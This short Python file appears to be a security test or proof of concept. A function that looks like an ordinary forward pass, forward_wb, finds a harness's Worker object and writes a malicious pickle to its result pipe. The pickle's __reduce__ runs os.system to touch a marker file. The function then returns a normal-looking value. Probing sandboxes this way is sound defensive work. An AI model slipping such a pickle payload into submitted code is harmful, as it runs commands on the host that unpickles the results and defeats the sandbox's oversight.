"""Write a pickle that would run a shell command, on the result pipe, then return normally."""
import gc
import os
import pickle


class Evil:
    def __reduce__(self):
        return (os.system, ("touch /tmp/pwned-by-pickle",))


def forward_wb(x, w, b):
    worker = next(o for o in gc.get_objects() if type(o).__name__ == "Worker")
    os.write(worker.res_fd, pickle.dumps(Evil()))
    return x * w + b
